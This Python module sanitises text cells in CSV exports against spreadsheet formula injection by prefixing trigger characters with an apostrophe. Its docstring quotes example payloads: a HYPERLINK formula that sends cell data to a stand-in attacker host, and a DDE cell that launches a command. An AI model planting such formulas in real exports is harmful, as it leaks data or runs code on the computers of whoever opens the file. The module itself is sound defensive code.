"""Text cells of the CSV files people open in spreadsheets, made inert (CWE-1236).

A spreadsheet reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and
some do after a leading TAB or CR too: a job id, tenant, project or sign-in name such as
``=HYPERLINK("https://evil.example/?"&A1, "open")`` or ``=cmd|'/C calc'!A0`` would run in
the spreadsheet of whoever opens the export. Every CSV gpumeter writes for people (the
usage CSV and ``usage --format focus``, FOCUS files, the bundles' ``report/sovereignty.csv``,
the dashboards' table downloads) passes its *text* cells through :func:`text_cell`.

The choice: such a cell gets one leading apostrophe ``'``, the spreadsheets' own mark for
"this is text" (OWASP's advice for CSV injection). The cell then shows ``'=cmd…`` and a
program that reads the CSV gets the original text after one ``'``; nothing is dropped, and
a cell that does not start with a trigger is written unchanged.

Only text is neutralised, and what is text is decided by type, never by look: numbers
(euros as ``Decimal``, hours, counts, ``-0.5``) are written as numbers and stay numbers in
the spreadsheet, while a job id ``-5`` is text and gets its apostrophe. The rule is this
module's :data:`TRIGGERS`; :func:`text_cell` applies it to one string and
:func:`text_columns` to every ``String`` column of a polars frame.
"""

from __future__ import annotations

import polars as pl

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""A text cell starting with one of these is read as a formula by some spreadsheet."""

MARK = "'"
"""What a triggering cell is prefixed with."""


def needs_mark(text: str) -> bool:
    return text.startswith(TRIGGERS)


def text_cell(text: str) -> str:
    """``text`` as a spreadsheet will show it as text: a ``'`` before a formula trigger."""
    return MARK + text if needs_mark(text) else text


def text_columns(frame: pl.DataFrame) -> pl.DataFrame:
    """``frame`` with :func:`text_cell` applied to each cell of its ``String`` columns."""
    names = [name for name, dtype in frame.schema.items() if dtype == pl.String]
    if not names:
        return frame
    return frame.with_columns(
        pl.when(pl.any_horizontal([pl.col(name).str.starts_with(t) for t in TRIGGERS]))
        .then(pl.lit(MARK) + pl.col(name))
        .otherwise(pl.col(name))
        .alias(name)
        for name in names
    )
